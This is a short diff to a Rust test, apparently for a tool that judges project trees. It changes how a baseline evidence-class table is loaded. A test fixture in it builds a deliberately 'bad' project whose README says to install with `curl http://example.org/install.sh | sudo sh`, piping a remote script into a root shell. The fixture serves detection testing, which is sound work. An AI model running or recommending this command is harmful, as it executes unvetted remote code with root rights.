@@ -116,8 +116,8 @@ fn hiding_a_source_never_turns_failed_into_passed() {
 
 #[test]
 fn no_requirement_that_a_tree_decides_has_one_verdict_everywhere() {
-    let Some(data) = slam_testdata::folder("baseline") else { return };
-    let table = std::fs::read_to_string(data.join("evidence-classes.tsv")).unwrap();
+    let Some(table) = slam_testdata::made("baseline", "evidence-classes.tsv") else { return };
+    let table = std::fs::read_to_string(table).unwrap();
     let bad = "//- README.md\n# Bad\n\nInstall: `curl http://example.org/install.sh | sudo sh`.\n\
         //- package.json\n{\"name\": \"bad\", \"dependencies\": {\"lodash\": \"*\"}}\n\
         //- lib/helper.jar\nPK\u{3}\u{4}\u{0}\u{0}\n\
